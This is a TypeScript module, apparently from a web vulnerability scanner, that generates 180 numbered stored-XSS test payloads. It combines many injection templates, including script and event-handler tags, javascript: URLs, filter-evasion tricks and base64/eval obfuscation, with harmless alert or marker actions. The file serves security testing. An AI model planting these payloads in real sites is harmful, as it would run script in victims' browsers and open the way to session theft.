/**
 * Stored-XSS payloads. Each carries a visible tag `xss<N>` (to count how many reached a page as
 * text) and tries to run one action: alert/confirm/prompt(N) or setting `window.__yzXss = N`.
 * The browser side (xss.ts) hooks all four, so any execution is counted with the payload's number.
 */
import type { Payload } from './plant.js';

const TEMPLATES: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `javascript:${js}`,
  (js) => `  JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `<a href="javascript:${js}">点击查看</a>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<body onload="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>提交</button></form>`,
  (js) => `<marquee onstart="${js}">伊犁</marquee>`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `" onmouseover="${js}" autofocus onfocus="${js}" x="`,
  (js) => `' onfocus='${js}' autofocus='`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `"><svg/onload=${js}>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<img src="x" onerror="eval(atob('${Buffer.from(js).toString('base64')}'))">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<table background="javascript:${js}"><tr><td>x</td></tr></table>`,
  (js) => `[点击](javascript:${js})`,
  (js) => `<div style="background:url(javascript:${js})">x</div>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `<img src=x onerror=&#x${'61'};lert(1)&#x3B;${js}>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">点</text></a></svg>`,
  (js) => `<style>*{background:url("javascript:${js}")}</style>`,
  (js) => `<img src=1 onerror=\u0061lert(1)&&${js}>`,
  (js) => `<isindex type=image src=1 onerror=${js}>`,
  (js) => `<object type="text/html" data="data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString('base64')}"></object>`,
];

/** Short forms, so that fields of 40–50 characters also take 100 or more payloads. */
const SHORT_TEMPLATES: ((js: string) => string)[] = [
  (js) => `<svg onload=${js}>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<script>${js}</script>`,
  (js) => `javascript:${js}`,
  (js) => `"><svg onload=${js}>`,
  (js) => `'><svg onload=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `{{${js}}}`,
  (js) => `\${${js}}`,
  (js) => `" onfocus=${js} autofocus "`,
  (js) => `<iframe src=javascript:${js}>`,
  (js) => `<a href=javascript:${js}>x</a>`,
  (js) => `<video src=x onerror=${js}>`,
  (js) => `</script><svg onload=${js}>`,
  (js) => `<marquee onstart=${js}>`,
  (js) => `<b onmouseover=${js}>x</b>`,
  (js) => `--><svg onload=${js}>`,
];

const ACTIONS: ((n: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `window.__yzXss=${n}`,
  (n) => `confirm(${n})`,
  (n) => `prompt(${n})`,
];


/** Every template with the first two actions, confirm/prompt variants, and short forms: 180 payloads. */
export function xssPayloads(): Payload[] {
  const out: Payload[] = [];
  let n = 1000;
  for (const action of ACTIONS.slice(0, 2)) for (const template of TEMPLATES) out.push({ n, text: `xss${n}${template(action(n++))}` });
  for (const action of ACTIONS.slice(2)) for (const template of TEMPLATES.slice(0, 8)) out.push({ n, text: `xss${n}${template(action(n++))}` });
  for (const action of [ACTIONS[0], ACTIONS[2], ACTIONS[3]]) for (const template of SHORT_TEMPLATES) out.push({ n, text: `xss${n}${template(action(n++))}` });
  return out;
}

export const PAYLOAD_TAG = /xss(1\d{3})/g;
